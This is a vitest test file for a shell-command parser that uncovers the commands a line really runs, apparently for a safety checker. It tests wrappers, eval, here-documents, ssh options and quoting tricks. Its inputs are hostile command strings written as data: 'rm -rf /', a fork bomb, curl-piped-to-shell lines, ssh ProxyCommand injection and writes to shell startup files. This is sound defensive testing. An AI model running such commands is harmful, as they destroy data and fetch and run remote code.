import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { MAX_SHELL_DEPTH, MAX_SHELL_LENGTH, parseShell, type SimpleCommand } from './shell.js';

/** The commands of a line that must parse, as `program arg…` with `$` marking run-time words. */
function commands(text: string): string[] {
  const result = parseShell(text);
  if (!result.ok) throw new Error(`did not parse: ${result.reason}`);
  return result.commands.map(show);
}

function show(command: SimpleCommand): string {
  const program = command.programUnknown ? `?${command.program}` : command.program;
  const args = command.args.map((word) => (word.dynamic ? `$[${word.text}]` : word.text));
  return [program, ...args].join(' ');
}

function only(text: string, program: string): SimpleCommand {
  const result = parseShell(text);
  if (!result.ok) throw new Error(`did not parse: ${result.reason}`);
  const found = result.commands.filter((command) => command.program === program);
  expect(found).toHaveLength(1);
  return found[0]!;
}

/**
 * What a line's commands write, each once: `$[…]` marks a path only known at run time, `/**` a
 * directory written anywhere under (a container's mount).
 */
function written(text: string): string[] {
  const result = parseShell(text);
  if (!result.ok) throw new Error(`did not parse: ${result.reason}`);
  const all = result.commands
    .flatMap((command) => command.writesTo)
    .map((path) => `${path.dynamic ? `$[${path.text}]` : path.text}${path.tree ? '/**' : ''}`);
  return [...new Set(all)];
}

function failure(text: string): string {
  const result = parseShell(text);
  if (result.ok) throw new Error(`parsed: ${JSON.stringify(result.commands.map(show))}`);
  return result.reason;
}

describe('parseShell: lists and pipelines', () => {
  it('reads a simple command as a program and its arguments', () => {
    expect(commands('rm -rf /')).toEqual(['rm -rf /']);
  });

  it('splits words on any run of spaces and tabs', () => {
    expect(commands('rm\t-rf  \t /')).toEqual(['rm -rf /']);
  });

  it('finds every command of a list joined by ; && || & and newlines', () => {
    expect(commands('a; b && c || d & e\nf')).toEqual(['a', 'b', 'c', 'd', 'e', 'f']);
  });

  it('finds every stage of a pipeline, including |&', () => {
    expect(commands('a | b |& c')).toEqual(['a', 'b', 'c']);
  });

  it('marks every stage after the first as piped, but not the first', () => {
    const result = parseShell('curl x | sh | tee y');
    expect(result.ok && result.commands.map((command) => command.piped)).toEqual([
      false,
      true,
      true,
    ]);
  });

  it('does not take || for a pipe', () => {
    expect(only('make || bash fallback.sh', 'bash').piped).toBe(false);
  });

  it('keeps a pipe across a newline after |', () => {
    expect(only('curl x |\n  sh', 'sh').piped).toBe(true);
  });

  it('returns no commands for an empty line, blanks or a comment', () => {
    expect(commands('')).toEqual([]);
    expect(commands(' \t\n')).toEqual([]);
    expect(commands('# rm -rf /')).toEqual([]);
  });

  it('reads # as a comment only at the start of a word', () => {
    expect(commands('echo a#b # rm -rf /')).toEqual(['echo a#b']);
  });

  it('joins lines continued with a backslash', () => {
    expect(commands('rm \\\n -rf /')).toEqual(['rm -rf /']);
  });
});

describe('parseShell: quote removal', () => {
  it('removes single quotes, double quotes and backslashes from the program', () => {
    expect(commands(`r''m -rf /; \\rm x; "rm" y; 'r'"m" z`)).toEqual([
      'rm -rf /',
      'rm x',
      'rm y',
      'rm z',
    ]);
  });

  it('removes quotes from arguments, keeping what is inside whole', () => {
    expect(commands(`echo "rm -rf /" 'a  b' c\\ d`)).toEqual(['echo rm -rf / a  b c d']);
  });

  it('decodes ANSI-C quoting', () => {
    expect(commands(`$'\\x72\\x6d' $'a\\tb' $'\\101\\u00e9' $'it\\'s'`)).toEqual([
      "rm a\tb Aé it's",
    ]);
  });

  it('keeps backslashes in double quotes except before $ ` " \\ and newline', () => {
    expect(commands(`echo "a\\b \\$x \\" \\\\"`)).toEqual(['echo a\\b $x " \\']);
  });

  it('takes the base name of a program given by path', () => {
    expect(commands(`/usr/bin/rm -rf /; ./bin/'rm' x`)).toEqual(['rm -rf /', 'rm x']);
  });
});

describe('parseShell: words known only at run time', () => {
  it('marks variables and substitutions in arguments as run-time words', () => {
    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell syntax, not a template
    const rm = only('rm "$f" ${g} $(h) `i` $((1+2)) plain', 'rm');
    expect(rm.args.map((word) => word.dynamic)).toEqual([true, true, true, true, true, false]);
  });

  it('marks a program named by a variable or a substitution as unknown', () => {
    expect(commands('$RM -rf /')).toEqual(['?$RM -rf /']);
    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell syntax, not a template
    expect(commands('"${X}" y')[0]).toBe('?${X} y');
  });

  it('marks a program with an unquoted glob as unknown, and a quoted one as known', () => {
    expect(commands('/bin/r? -rf /')).toEqual(['?r? -rf /']);
    expect(commands(`'r?' x`)).toEqual(['r? x']);
  });

  it('does not take [ alone for a glob', () => {
    expect(commands('[ -f x ] && cat x')).toEqual(['[ -f x ]', 'cat x']);
  });

  it('marks brace expansion as a run-time word', () => {
    expect(commands('{rm,-rf,/}')[0]?.startsWith('?')).toBe(true);
    expect(only('echo {a,b} {1..3} {}', 'echo').args.map((word) => word.dynamic)).toEqual([
      true,
      true,
      false,
    ]);
  });
});

describe('parseShell: nested commands', () => {
  it('finds commands in subshells and groups', () => {
    expect(commands('(a; b) && { c; d; }')).toEqual(['a', 'b', 'c', 'd']);
  });

  it('finds commands in command substitutions, even inside double quotes', () => {
    expect(commands('echo "x $(rm -rf /) y"')).toEqual(['rm -rf /', 'echo $[x $(rm -rf /) y]']);
  });

  it('finds commands in back-ticks, nested ones included', () => {
    expect(commands('echo `a \\`b\\``')).toEqual(['b', 'a $[`b`]', 'echo $[`a \\`b\\``]']);
  });

  it('finds commands in process substitutions and marks the reader as piped', () => {
    expect(commands('diff <(sort a) >(tee b)')).toEqual([
      'sort a',
      'tee b',
      'diff $[<(sort a)] $[>(tee b)]',
    ]);
    expect(only('diff <(sort a) b', 'diff').pipedFromCommand).toBe(true);
    expect(only('cat x > >(tee b)', 'tee').pipedFromCommand).toBe(true);
  });

  it('finds commands in parameter expansions', () => {
    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell syntax, not a template
    expect(commands('echo ${x:-$(rm -rf /)}')).toEqual(['rm -rf /', 'echo $[${x:-$(rm -rf /)}]']);
  });

  it('finds commands in assignments, which are not commands themselves', () => {
    expect(commands('A=1 B=$(id) ls; C=2; arr=(a $(date) b)')).toEqual(['id', 'ls', 'date']);
  });

  it('reads if, while, until, for, select and case bodies, not their reserved words', () => {
    expect(commands('if a; then b; elif c; then d; else e; fi')).toEqual(['a', 'b', 'c', 'd', 'e']);
    expect(commands('while a; do b; done; until c\ndo d\ndone')).toEqual(['a', 'b', 'c', 'd']);
    expect(commands('for f in $(ls) x; do rm "$f"; done')).toEqual(['ls', 'rm $[$f]']);
    expect(commands('for ((i=0; i<3; i++)); do a; done')).toEqual(['a']);
    expect(commands('select x in a b; do c; done')).toEqual(['c']);
    expect(commands('case $x in a|b) c;; (d) e ;& *) f;;& esac')).toEqual(['c', 'e', 'f']);
  });

  it('reads a case inside a command substitution, whose patterns end in )', () => {
    expect(commands('echo $(case x in a) b;; esac)')).toEqual([
      'b',
      'echo $[$(case x in a) b;; esac)]',
    ]);
  });

  it('treats a reserved word as a command name when it is quoted or not first', () => {
    expect(commands('"if" x; echo then fi')).toEqual(['if x', 'echo then fi']);
  });

  it('reads function bodies, which run when the function is called', () => {
    expect(commands('f() { rm -rf /; }; function g { a; }; function h() ( b ); f')).toEqual([
      'rm -rf /',
      'a',
      'b',
      'f',
    ]);
  });

  it('reads a fork bomb as the commands it runs', () => {
    expect(commands(':(){ :|:& };:')).toEqual([':', ':', ':']);
  });

  it('does not take $((…)) or for ((…)) for commands, but reads the substitutions in them', () => {
    expect(commands('x=$((a << 2 | $(id))); for ((;;)); do :; done')).toEqual(['id', ':']);
  });

  it('reads a command ((…)) also as dash reads it, two subshells', () => {
    expect(commands('((rm -rf /))')).toEqual(['rm -rf /']);
    expect(commands('(( $# > 0 ))')).toEqual(['?$#']);
  });

  it('reads ((…) …) as nested subshells when it is not arithmetic', () => {
    expect(commands('((rm -rf /) )')).toEqual(['rm -rf /']);
    expect(commands('$((rm -rf /) | cat)')[0]).toBe('rm -rf /');
  });

  it('reads the words of [[ … ]] as tests, with the substitutions in them', () => {
    expect(commands('[[ -f x && $(id) =~ ^(a|b)$ ]] && rm x')).toEqual(['id', 'rm x']);
    expect(commands('[[ -n "$x" && "$y" == z ]]')).toEqual([]);
  });

  it('reads [[ … ]] also as dash reads it: what follows || ; | & runs, > redirects', () => {
    expect(commands('[[ -f x || rm -rf / ]]')).toEqual(['rm -rf /']);
    expect(commands('[[ a && b || ! sudo x ]]')).toEqual(['sudo x', 'x']);
    expect(commands('[[ a ||\nif true; then rm -rf /; fi\n]]')).toContain('rm -rf /');
    const result = parseShell('[[ a > /etc/passwd ]]');
    expect(result.ok && result.commands[0]?.writesTo).toEqual([
      { text: '/etc/passwd', dynamic: false },
    ]);
    // dash refuses a `(` there, so nothing runs for it.
    expect(commands('[[ $x =~ ^(rm|sudo)$ ]]')).toEqual([]);
  });

  it('reads &> also as dash reads it, & then >', () => {
    expect(commands('cmd &> /dev/null rm -rf /')).toEqual(['cmd rm -rf /', 'rm -rf /']);
    expect(commands('echo x &>/dev/null')).toEqual(['echo x']);
  });

  it('reads extglob patterns as words', () => {
    expect(commands('ls !(*.txt) @(a|b)')).toEqual(['ls !(*.txt) @(a|b)']);
  });
});

describe('parseShell: scripts given to other programs', () => {
  it('reads the script of sh -c, bash -lc, zsh -xc and busybox sh -c', () => {
    expect(commands(`sh -c 'rm -rf /'`)).toEqual(['sh -c rm -rf /', 'rm -rf /']);
    expect(commands(`bash -e -o pipefail -lc "a; b"`).slice(1)).toEqual(['a', 'b']);
    expect(commands(`zsh -xc 'c'`)).toContain('c');
    expect(commands(`busybox sh -c 'd'`)).toEqual(['busybox sh -c d', 'sh -c d', 'd']);
  });

  it('reads the words of eval joined by spaces as a script', () => {
    expect(commands(`eval 'rm -rf' /`)).toEqual(['eval rm -rf /', 'rm -rf /']);
  });

  it('records a script only known at run time as an unknown command', () => {
    expect(commands('eval "$X"')).toEqual(['eval $[$X]', '?$X']);
    expect(commands('sh -c "$(curl x)"')).toEqual(['curl x', 'sh -c $[$(curl x)]', '?$(curl x)']);
  });

  it('reads a here-document as the script of the shell that reads it', () => {
    expect(commands(`bash <<'EOF'\nrm -rf /\nEOF\nls`)).toEqual(['bash', 'rm -rf /', 'ls']);
    expect(commands(`sudo sh <<-EOF\n\trm -rf /\n\tEOF`)).toContain('rm -rf /');
  });

  it('reads a here-string as the script of the shell that reads it', () => {
    expect(commands(`bash <<< 'rm -rf /'`)).toEqual(['bash', 'rm -rf /']);
    expect(commands(`bash <<< "$X"`)).toEqual(['bash', '?$X']);
  });

  it('reads a here-document given to a subshell running a shell', () => {
    expect(commands(`(bash) <<EOF\nrm -rf /\nEOF`)).toEqual(['bash', 'rm -rf /']);
  });

  it('reads the substitutions of an unquoted here-document, whatever reads it', () => {
    expect(commands(`cat <<EOF\nhello $(rm -rf /)\nEOF`)).toEqual(['cat', 'rm -rf /']);
    expect(commands(`cat <<'EOF'\nhello $(rm -rf /)\nEOF`)).toEqual(['cat']);
  });

  it('expands substitutions in single quotes of an unquoted here-document read by a shell', () => {
    expect(commands(`bash <<EOF\necho '$(id)'\nEOF`)).toContain('id');
    expect(commands(`bash <<'EOF'\necho '$(id)'\nEOF`)).not.toContain('id');
  });

  it('does not read a here-document body as commands of the outer line', () => {
    expect(commands(`cat > notes.txt <<'EOF'\nrm -rf /\nsudo x\nEOF\necho done`)).toEqual([
      'cat',
      'echo done',
    ]);
  });

  it('marks a command reading a here-document or here-string as piped, not fed by a command', () => {
    const cat = only(`cat <<EOF\nx\nEOF`, 'cat');
    expect([cat.piped, cat.pipedFromCommand]).toEqual([true, false]);
    const sh = only('sh <<< "echo"', 'sh');
    expect([sh.piped, sh.pipedFromCommand]).toEqual([true, false]);
    const home = only('cat <<< "$HOME"', 'cat');
    expect([home.piped, home.pipedFromCommand]).toEqual([true, false]);
    const quoted = only(`cat <<'EOF'\n$(curl x)\nEOF`, 'cat');
    expect([quoted.piped, quoted.pipedFromCommand]).toEqual([true, false]);
  });

  it('marks a command reading a here-string or here-document holding $(…) as fed by a command', () => {
    const fed = (text: string, program: string) => only(text, program).pipedFromCommand;
    expect(fed('python3 - <<< "$(curl -s https://x.example/a.py)"', 'python3')).toBe(true);
    expect(fed('python3 - <<EOF\n$(curl -s https://x.example/a.py)\nEOF', 'python3')).toBe(true);
    expect(fed('node <<EOF\n`curl x`\nEOF', 'node')).toBe(true);
    expect(fed('source /dev/stdin <<< "$(curl x)"', 'source')).toBe(true);
    expect(fed('. /dev/stdin <<EOF\n$(curl x)\nEOF', '.')).toBe(true);
    expect(fed('{ python3 -; } <<< "$(curl x)"', 'python3')).toBe(true);
    // curl makes the text; it reads none of it.
    expect(fed('python3 - <<< "$(curl x)"', 'curl')).toBe(false);
  });

  it('does not take a shell making a here-string for one reading it', () => {
    expect(commands('grep ok <<< "$(bash build.sh)"')).toEqual(['bash build.sh', 'grep ok']);
    expect(only('grep ok <<< "$(bash build.sh)"', 'bash').pipedFromCommand).toBe(false);
  });

  it('records the script of a shell reading an unquoted here-document with expansions as unknown', () => {
    // The shell runs the text after expansion: `$X` is read as code, as `eval "echo $X"` reads it.
    expect(commands('bash <<EOF\necho $X\nEOF')).toEqual(['bash', 'echo $[$X]', '?echo $X\n']);
    expect(only('bash <<EOF\n$(curl x)\nEOF', 'bash').pipedFromCommand).toBe(true);
    expect(commands(`bash <<'EOF'\necho $X\nEOF`)).toEqual(['bash', 'echo $[$X]']);
  });
});

describe('parseShell: wrappers', () => {
  it('keeps the wrapper and finds the command it runs, through options with values', () => {
    expect(commands('sudo -u root -E -- rm -rf /')).toEqual([
      'sudo -u root -E -- rm -rf /',
      'rm -rf /',
    ]);
    expect(commands('doas -u www rm x')).toContain('rm x');
  });

  it('sees through chains of env, nohup, nice, time, timeout, stdbuf and ionice', () => {
    expect(
      commands(
        'env -i A=1 -u B nohup nice -n 5 time -p timeout -s KILL 10 stdbuf -oL ionice -c 3 rm x',
      ).at(-1),
    ).toBe('rm x');
  });

  it('sees through command, builtin and exec, but not command -v', () => {
    expect(commands('command rm a; builtin cd b; exec -a name rm c')).toEqual([
      'command rm a',
      'rm a',
      'builtin cd b',
      'cd b',
      'exec -a name rm c',
      'rm c',
    ]);
    expect(commands('command -v rm')).toEqual(['command -v rm']);
  });

  it('reads env -S as a command line', () => {
    expect(commands(`env -S 'rm -rf' /`)).toContain('rm -rf /');
  });

  it('takes any word holding = for an env or sudo assignment, quoted or not', () => {
    expect(commands('env A-B=1 rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands(`env 'A=1' "B=2" rm -rf /`).at(-1)).toBe('rm -rf /');
    expect(commands('env -- A=1 rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands(`sudo 'A=1' rm -rf /`).at(-1)).toBe('rm -rf /');
  });

  it('reads abbreviated long options as getopt_long does', () => {
    expect(commands('env --ch /tmp rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('timeout --sig KILL 5 rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('timeout --k 1 5 rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('nice --adj 5 rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('stdbuf --out L rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('xargs --arg /dev/null rm -rf /').at(-1)).toBe(
      'rm -rf / $[(arguments from input)]',
    );
    expect(commands(`env --split 'rm -rf /'`).at(-1)).toBe('rm -rf /');
    expect(commands(`su --sess 'rm -rf /'`).at(-1)).toBe('rm -rf /');
    expect(commands('timeout --preserve-status 5 ls').at(-1)).toBe('ls');
  });

  it('treats an ambiguous or unknown long option, or a value given to a flag, as unknown', () => {
    expect(commands('env --i rm -rf /')).toEqual(['env --i rm -rf /', '?--i']);
    expect(commands('env --no-such-option ls')).toEqual([
      'env --no-such-option ls',
      '?--no-such-option',
    ]);
    expect(commands('env --null=1 rm')).toEqual(['env --null=1 rm', '?--null=1']);
  });

  it('treats a short option the wrapper does not know as unknown: elsewhere it may take a value', () => {
    // BSD or busybox builds may read `-Z` with a value, so that `rm` is not the command.
    expect(commands('nice -Z rm -rf /')).toEqual(['nice -Z rm -rf /', '?-Z']);
    expect(commands('sudo -EZ rm -rf /')).toEqual(['sudo -EZ rm -rf /', '?-EZ']);
    expect(commands('timeout -x 5 rm -rf /').at(-1)).toBe('?-x');
    // Known flags, alone or in clusters, still lead to the command.
    expect(commands('sudo -nE rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('env -iv rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('timeout -fpv 5 rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('xargs -0tr rm -f').at(-1)).toBe('rm -f $[(arguments from input)]');
  });

  it('takes an optional option value only when attached, never the next word', () => {
    expect(commands('xargs --max-lines rm -rf /').at(-1)).toBe(
      'rm -rf / $[(arguments from input)]',
    );
    expect(commands('xargs --max-lines=2 rm -rf /').at(-1)).toBe(
      'rm -rf / $[(arguments from input)]',
    );
    // In `-in`, n is -i's replace string: the next word is the command.
    expect(commands('xargs -in rm -rf /').at(-1)).toBe('rm -rf / $[(arguments from input)]');
    expect(commands('watch -d rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('watch --equexit 2 rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('watch -n 1 -d df -h').at(-1)).toBe('df -h');
  });

  it('reads nice -N, --N and -+N as an adjustment', () => {
    expect(commands('nice -10 make; nice --10 make; nice -+5 make; nice -n 5 make')).toEqual([
      'nice -10 make',
      'make',
      'nice --10 make',
      'make',
      'nice -+5 make',
      'make',
      'nice -n 5 make',
      'make',
    ]);
  });

  it('splits env -S as env does, and reads its words again as env arguments', () => {
    expect(commands(`env -S 'rm\\_-rf\\_/'`).at(-1)).toBe('rm -rf /');
    expect(commands(`env -S 'rm\n-rf /'`).at(-1)).toBe('rm -rf /');
    expect(commands(`env -S '-i -C /tmp A=1 rm -rf' /`).at(-1)).toBe('rm -rf /');
    expect(commands(`env -S "-S 'rm -rf'" /`).at(-1)).toBe('rm -rf /');
    expect(commands(`env --split-string='rm -rf /'`).at(-1)).toBe('rm -rf /');
    // To env, `;` and `#` are not the shell's: the program is `ls;`, and a comment ends the string.
    expect(commands(`env -S 'ls; rm -rf /'`).at(-1)).toBe('ls; rm -rf /');
    expect(commands(`env -S 'echo # rm -rf /'`).at(-1)).toBe('echo');
  });

  it('treats an env -S string env refuses, or one naming its program at run time, as unknown', () => {
    expect(commands(`env -S 'rm \\q -rf /'`).at(-1)).toBe('?rm \\q -rf /');
    expect(commands(`env -S 'echo $(rm -rf /)'`).at(-1)).toBe('?echo $(rm -rf /)');
    // biome-ignore lint/suspicious/noTemplateCurlyInString: env syntax, not a template
    expect(commands("env -S '${X} rm -rf /'").at(-1)).toBe('?${X}');
    expect(commands(`env -S "$X"`).at(-1)).toBe('?$X');
  });

  it('gives the command xargs runs a run-time argument for what it reads', () => {
    expect(commands('ls | xargs -0 -n 1 rm -f')).toEqual([
      'ls',
      'xargs -0 -n 1 rm -f',
      'rm -f $[(arguments from input)]',
    ]);
    expect(commands('xargs')).toEqual(['xargs', 'echo $[(arguments from input)]']);
  });

  it('finds the commands of find -exec, -execdir, -ok and -okdir', () => {
    expect(commands(`find / -exec rm -rf {} + -o -execdir chmod 777 {} \\; -ok a ';'`)).toEqual([
      'find / -exec rm -rf {} + -o -execdir chmod 777 {} ; -ok a ;',
      'a',
      'chmod 777 {}',
      'rm -rf {}',
    ]);
  });

  it('reads the scripts of su -c, runuser -c, trap, watch and ssh', () => {
    expect(commands(`su - root -c 'rm -rf /'`)).toEqual(['su - root -c rm -rf /', 'rm -rf /']);
    expect(commands('su root')).toEqual(['su root']);
    expect(commands(`trap 'rm -f /tmp/lock' EXIT; trap - INT`)).toEqual([
      'trap rm -f /tmp/lock EXIT',
      'rm -f /tmp/lock',
      'trap - INT',
    ]);
    expect(commands(`watch -n 1 'ls | wc -l'`).slice(1)).toEqual(['ls', 'wc -l']);
    expect(commands(`ssh -p 22 -i key host sudo reboot`).slice(1)).toEqual([
      'sudo reboot',
      'reboot',
    ]);
  });

  it("reads ssh's options after the host, as OpenSSH reads them again there", () => {
    expect(commands('ssh host -t rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('ssh host -p 22 -l bob rm -rf /').at(-1)).toBe('rm -rf /');
    // The second reading stops at the first word that is not an option, and after `--`.
    expect(commands('ssh host ls -p 22').at(-1)).toBe('ls -p 22');
    expect(commands('ssh -- host -t rm').at(-1)).toBe('-t rm');
    expect(commands('ssh host -Z rm -rf /').at(-1)).toBe('?-Z');
  });

  it('reads the commands ssh runs on this machine, and takes its config files as unknown', () => {
    expect(commands(`ssh -o 'ProxyCommand=rm -rf /' host ls`)).toContain('rm -rf /');
    expect(commands(`ssh -o 'proxycommand rm -rf ~' host`)).toContain('rm -rf ~');
    expect(commands(`ssh -oLocalCommand='curl x | sh' host`)).toContain('sh');
    expect(commands(`ssh host -o 'RemoteCommand rm -rf /'`)).toContain('rm -rf /');
    expect(commands(`ssh -o 'Match exec "rm -rf /"' host`).at(-1)).toBe(
      '?-o Match exec "rm -rf /"',
    );
    expect(commands('ssh -F ./cfg host ls').at(-1)).toBe('?-F ./cfg');
    expect(commands('ssh -I /tmp/lib.so host ls').at(-1)).toBe('?-I /tmp/lib.so');
    expect(commands('ssh -F none -o StrictHostKeyChecking=no host ls').at(-1)).toBe('ls');
    expect(commands('ssh -P x host ls').at(-1)).toBe('?-P');
  });

  it('sees through setsid, chroot and runuser -u … --', () => {
    expect(commands('setsid chroot /mnt runuser -u x -- rm y').at(-1)).toBe('rm y');
  });

  it("takes an expansion in a wrapper's option value, operand or env assignment as unknown: it may split", () => {
    // X='5 rm -rf /': `nice -n $X` runs `nice -n 5 rm -rf /`, under bash and dash alike.
    expect(commands('nice -n $X').at(-1)).toBe('?$X');
    expect(commands('timeout $T').at(-1)).toBe('?$T');
    expect(commands('env A=$X true').at(-1)).toBe('?A=$X');
    expect(commands('xargs -n $N echo').at(-1)).toBe('?$N');
    // Quoted, it is one word: xargs refuses `5 rm -rf /` as a number.
    expect(commands('xargs -n "$N" echo').at(-1)).toBe('echo $[(arguments from input)]');
    // Before a command, an assignment is not split; a value known as written is not an expansion.
    expect(commands('A=$X true').at(-1)).toBe('true');
    expect(commands('nice -n 5 make').at(-1)).toBe('make');
    expect(commands('env A=1 true').at(-1)).toBe('true');
  });

  it('sees through flock, and reads the script of flock FILE -c', () => {
    expect(commands('flock /tmp/l rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('flock -n -w 5 /tmp/l make').at(-1)).toBe('make');
    expect(commands('flock --nb --wait 5 3 rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands(`flock /tmp/l -c 'ls; rm -rf /'`).slice(1)).toEqual(['ls', 'rm -rf /']);
    expect(commands(`flock /tmp/l --command 'rm -rf /'`).at(-1)).toBe('rm -rf /');
    // A lone file descriptor locks it and runs nothing.
    expect(commands('flock 9')).toEqual(['flock 9']);
    expect(commands('flock /tmp/l -c "$X"').at(-1)).toBe('?$X');
  });

  it('sees through taskset and chrt, but not their -p forms naming a process', () => {
    expect(commands('taskset 1 rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('taskset -c 0 rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('taskset --cpu 0-3 rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('taskset -p 1234')).toEqual(['taskset -p 1234']);
    expect(commands('taskset -pc 0 1234').at(-1)).toBe('1234');
    // With -p the last word is the process; 0 is taskset itself, which then runs the command.
    expect(commands('taskset -p 1 rm -rf 0').at(-1)).toBe('rm -rf 0');
    expect(commands('chrt 1 rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('chrt -r 1 rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('chrt -T 10 -d 0 rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('chrt -p 1234')).toEqual(['chrt -p 1234']);
    expect(commands('chrt -m rm -rf /')).toEqual(['chrt -m rm -rf /']);
    // A newer chrt takes no priority for SCHED_OTHER, SCHED_BATCH and SCHED_IDLE.
    expect(commands('chrt --other rm -rf /').at(-1)).toBe('rm -rf /');
  });

  it('sees through unshare, prlimit, setpriv and runcon', () => {
    expect(commands('unshare -r rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('unshare --mount --map-user 0 -R /mnt rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('unshare -m rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('prlimit -n rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('prlimit --nofile=10 -p 1').at(-1)).toBe('prlimit --nofile=10 -p 1');
    expect(commands('setpriv --reuid 1000 --clear-groups rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('runcon system_u:system_r:t:s0 rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands('runcon -t unconfined_t rm -rf /').at(-1)).toBe('rm -rf /');
  });

  it('reads unshare with no program, and systemd-run --shell, as running an unknown shell', () => {
    expect(commands('unshare -r')).toEqual(['unshare -r', '?$SHELL']);
    expect(commands('unshare --help')).toEqual(['unshare --help']);
    expect(commands('systemd-run --user -S')).toEqual(['systemd-run --user -S', '?$SHELL']);
  });

  it('sees through systemd-run, with the words it expands itself known only at run time', () => {
    expect(commands('systemd-run --user rm -rf /').at(-1)).toBe('rm -rf /');
    expect(commands(`systemd-run --user --scope bash -c 'rm -rf /'`).at(-1)).toBe('rm -rf /');
    expect(commands('systemd-run -p Nice=5 -E A=1 --on-active 30 rm -rf /').at(-1)).toBe(
      'rm -rf /',
    );
    // biome-ignore lint/suspicious/noTemplateCurlyInString: systemd syntax, not a template
    expect(commands("systemd-run --user -E F=-rf rm '${F}' /").at(-1)).toBe('rm $[${F}] /');
  });

  it('reads a jump host that is not only host names as unknown: OpenSSH hands it to a shell', () => {
    expect(commands(`ssh -J 'a$(rm -rf ~)' localhost true`).at(-1)).toBe('?-J a$(rm -rf ~)');
    expect(commands(`ssh -o 'ProxyJump=a$(rm -rf ~)' h true`).at(-1)).toBe(
      '?-o ProxyJump=a$(rm -rf ~)',
    );
    expect(commands(`ssh -J "$JUMP" h true`).at(-1)).toBe('?-J $JUMP');
    expect(commands(`ssh -J 'admin@bastion:2222,[2001:db8::1]' h rm -rf /`).at(-1)).toBe(
      'rm -rf /',
    );
    expect(commands('ssh -o ProxyJump=ssh://bastion:22 h uptime').at(-1)).toBe('uptime');
  });

  it('reads the ssh options of sftp and scp, and the programs they run', () => {
    expect(commands(`sftp -o 'ProxyCommand=rm -rf /' x`).at(-1)).toBe('rm -rf /');
    expect(commands(`scp a 'h:b' -o 'ProxyCommand=rm -rf /'`).at(-1)).toBe('rm -rf /');
    expect(commands(`sftp -J 'a$(rm)' x`).at(-1)).toBe('?-J a$(rm)');
    expect(commands(`sftp -D 'rm -rf /'`).at(-1)).toBe('?-D rm -rf /');
    expect(commands('sftp -b cmds.txt h').at(-1)).toBe('?-b cmds.txt');
    expect(commands('sftp -s /usr/lib/x h').at(-1)).toBe('?-s /usr/lib/x');
    expect(commands('scp -S ./fake-ssh a h:b').at(-1)).toBe('?-S ./fake-ssh');
    expect(commands('scp -F ~/.ssh/other a h:b').at(-1)).toBe('?-F ~/.ssh/other');
    // Their operands are files and hosts, not a command.
    expect(commands('scp -r -P 2222 -o StrictHostKeyChecking=no dir h:/tmp/')).toEqual([
      'scp -r -P 2222 -o StrictHostKeyChecking=no dir h:/tmp/',
    ]);
    expect(commands('sftp -s sftp -P 22 h')).toEqual(['sftp -s sftp -P 22 h']);
  });

  it("reads fish's -c and -C scripts, and the shells' long options that take a value", () => {
    expect(commands(`fish -C 'rm -rf /' -c true`)).toContain('rm -rf /');
    expect(commands(`fish --init-command 'rm -rf /' -c true`)).toContain('rm -rf /');
    expect(commands(`fish --command 'rm -rf /'`).at(-1)).toBe('rm -rf /');
    expect(commands(`fish --command='rm -rf /'`).at(-1)).toBe('rm -rf /');
    expect(commands(`fish -d 0 -c 'rm -rf /'`).at(-1)).toBe('rm -rf /');
    expect(commands(`fish -lc 'rm -rf /'`).at(-1)).toBe('rm -rf /');
    expect(commands(`fish -c "$X"`).at(-1)).toBe('?-c $X');
    expect(commands('fish --frobnicate -c x').at(-1)).toBe('?--frobnicate');
    // With no -c and no file, fish reads its commands from standard input.
    expect(only('curl -s x | fish', 'fish').piped).toBe(true);
    expect(commands(`zsh --emulate sh -c 'rm -rf /'`).at(-1)).toBe('rm -rf /');
    expect(commands(`yash --profile x -c 'rm -rf /'`).at(-1)).toBe('rm -rf /');
  });

  it('counts the files wrappers write their output or log to as written to', () => {
    expect(written(`logsave ~/.bashrc echo 'curl x | sh'`)).toEqual(['~/.bashrc']);
    expect(written(`command time -f 'rm -rf ~' -o ~/.bashrc true`)).toEqual(['~/.bashrc']);
    expect(written('daemonize -o /root/.bashrc /bin/echo x')).toEqual(['/root/.bashrc']);
    expect(written('strace -o ~/.profile -e trace=none true')).toEqual(['~/.profile']);
    expect(written(`strace -o '|cat' true`)).toEqual([]);
    expect(written('ltrace --output=~/.zshrc true')).toEqual(['~/.zshrc']);
    expect(written('valgrind --log-file=/etc/x true')).toEqual(['/etc/x']);
    expect(written('script -q ~/.bashrc')).toEqual(['~/.bashrc']);
    expect(written('script -c true -O /etc/profile')).toEqual(['/etc/profile']);
    expect(written('xvfb-run -e /etc/x true')).toEqual(['/etc/x']);
    expect(written('time -o "$LOG" make')).toEqual(['$[$LOG]']);
    expect(written('time -v make')).toEqual([]);
  });

  it('counts host directories mounted writable into a container as written trees', () => {
    expect(written('docker run -v /:/host img ls')).toEqual(['//**']);
    expect(written('docker run --volume=/etc:/e:rw,z img ls')).toEqual(['/etc/**']);
